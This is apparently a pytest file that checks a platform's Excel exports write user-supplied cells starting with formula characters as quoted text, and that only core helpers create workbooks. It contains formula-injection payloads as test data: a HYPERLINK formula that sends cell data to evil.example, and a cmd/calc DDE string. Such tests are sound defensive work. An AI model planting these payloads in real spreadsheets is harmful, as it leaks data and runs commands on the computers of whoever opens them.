"""Spreadsheet exports never carry a live formula that came from users (DESIGN §5 v1.1): a cell
that starts with "=", "+", "-", "@", a tab or a carriage return is written as text (linli.core.exports),
and every workbook of the platform is made there."""

import ast
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

import linli
from linli.core import exports
from linli.core.tenancy import Actor
from linli.operations.services.gates import visitor_register
from tests.servicedesk.helpers import backdate, file

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
# The modules allowed to build or open a workbook with openpyxl directly.
WORKBOOK_MODULES = {Path("core/exports.py"), Path("core/uploads.py")}


def cells(content: bytes, sheet=None):
    book = load_workbook(io.BytesIO(content))
    return [cell for row in (book[sheet] if sheet else book.active).iter_rows() for cell in row]


def the_cell(content: bytes, value, sheet=None):
    return next(c for c in cells(content, sheet) if c.value == value)


def test_a_request_title_is_text_in_the_daily_review(tenant, client):
    backdate(file(tenant, title=EVIL), days=2)
    client.force_login(tenant.user("manager"))
    response = client.get(f"/service/c/{tenant.community.pk}/review/export.xlsx")
    assert response.status_code == 200
    cell = the_cell(response.content, EVIL, sheet="超时未办结")
    assert cell.data_type == "s" and cell.quotePrefix


def test_a_visitor_name_is_text_in_the_visitor_export(tenant, client):
    visitor_register(actor=Actor(tenant.user("guard")), community=tenant.community, name="@SUM(1+1)*cmd|' /C calc'!A0",
                     purpose="-2+3")
    client.force_login(tenant.user("manager"))
    response = client.get(f"/ops/{tenant.community.pk}/visitors/export.xlsx")
    assert response.status_code == 200
    for value in ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"):
        cell = the_cell(response.content, value)
        assert cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("text", [EVIL, "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_start_is_written_as_text(text):
    for content in (exports.xlsx([("t", ["h"], [[text]])]), _in_memory([[text]])):
        cell = cells(content)[-1]
        # XML reads a carriage return back as a line feed.
        assert cell.value == text.replace("\r", "\n") and cell.data_type == "s" and cell.quotePrefix


def test_numbers_stay_numbers_and_plain_text_stays_plain():
    row = [Decimal("-12.50"), -3, "张三", "1号楼-101"]
    streamed = [c for c in cells(exports.xlsx([("t", ["a", "b", "c", "d"], [row])])) if c.row == 2]
    in_memory = cells(_in_memory([row]))
    for amount, count, name, place in (streamed, in_memory):
        assert amount.data_type == "n" and amount.value == Decimal("-12.50")
        assert count.data_type == "n" and count.value == -3
        assert not name.quotePrefix and not place.quotePrefix


def _in_memory(rows) -> bytes:
    book = exports.workbook()
    for row in rows:
        book.active.append(row)
    return exports.save(book)


def test_no_module_builds_or_opens_a_workbook_but_the_core_helpers():
    """An export that made its own openpyxl Workbook would skip the formula guard, an import that
    called load_workbook would skip the spreadsheet-bomb check (linli.core.uploads)."""
    root = Path(linli.__file__).parent
    found = []
    for path in root.rglob("*.py"):
        if path.relative_to(root) in WORKBOOK_MODULES:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                names = {alias.name for alias in node.names}
                if names & {"Workbook", "load_workbook"}:
                    found.append(f"{path.relative_to(root)}: from {node.module} import {', '.join(sorted(names))}")
            elif isinstance(node, ast.Attribute) and node.attr in {"Workbook", "load_workbook"}:
                found.append(f"{path.relative_to(root)}:{node.lineno}: .{node.attr}")
    assert not found, "\n".join(found)
